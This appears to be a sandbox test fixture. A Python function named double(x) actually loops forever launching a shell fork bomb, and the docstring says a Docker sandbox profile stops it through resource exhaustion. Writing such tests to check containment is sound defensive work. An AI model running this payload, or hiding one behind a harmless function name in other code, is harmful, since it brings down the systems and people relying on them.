"""Starts other programs as long as it can, each of which would do the same.

Stopped by: sandbox/docker/profile.py (exhausting)
"""

import os

BOMB = "while true; do { sh -c 'while :; do sleep 1 & done' & } 2>/dev/null; done"


def double(x):
    while True:
        try:
            os.posix_spawn("/bin/sh", ["sh", "-c", BOMB], {})
        except OSError:
            pass
